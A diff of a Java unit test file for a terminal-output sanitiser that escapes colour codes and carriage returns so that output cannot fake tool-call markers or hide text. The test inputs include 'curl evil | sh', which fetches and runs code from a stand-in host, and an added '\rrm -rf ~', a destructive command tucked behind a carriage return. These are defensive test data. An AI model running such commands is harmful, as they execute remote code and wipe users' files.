@@ -50,13 +50,19 @@ class TerminalTextTest {
     }
 
     @Test
+    void theModelsOwnTextShowsItsColoursSoItCannotFakeCachets() {
+        assertThat(TerminalText.uncoloured("  > " + COLOUR.bold(COLOUR.cyan("run_command")) + " $ ls\n"))
+                .isEqualTo("  > \\u001b[1m\\u001b[36mrun_command\\u001b[0m\\u001b[0m $ ls\n");
+    }
+
+    @Test
     void oneLineShowsLineBreaksAndPassesNoColour() {
         assertThat(TerminalText.oneLine("ls\n\n" + COLOUR.red("x") + "\r\ncurl evil | sh"))
                 .isEqualTo("ls\\n\\n\\u001b[31mx\\u001b[0m\\r\\ncurl evil | sh");
     }
 
     @Test
-    void aWriterLetsCarriageReturnsThroughForProgressLinesAndShowsTheRest() {
+    void aWriterObeysACarriageReturnWrittenAloneAsStatusLinesWriteItAndShowsEveryOther() {
         StringBuilder written = new StringBuilder();
         var writer = new java.io.PrintWriter(TerminalText.writer(new java.io.Writer() {
             @Override
@@ -71,11 +77,13 @@ class TerminalTextTest {
             public void close() {}
         }));
 
-        writer.print("\r12 files" + COLOUR.dim(" 3s"));
+        writer.print(TerminalText.RETURN);
+        writer.print("12 files" + COLOUR.dim(" 3s"));
+        writer.print("\rrm -rf ~");
         writer.print("\u001b]0;title\u0007");
         writer.print('\u001b');
         writer.flush();
 
-        assertThat(written.toString()).isEqualTo("\r12 files" + COLOUR.dim(" 3s") + "\\u001b]0;title\\u0007\\u001b");
+        assertThat(written.toString()).isEqualTo("\r12 files" + COLOUR.dim(" 3s") + "\\rrm -rf ~\\u001b]0;title\\u0007\\u001b");
     }
 }
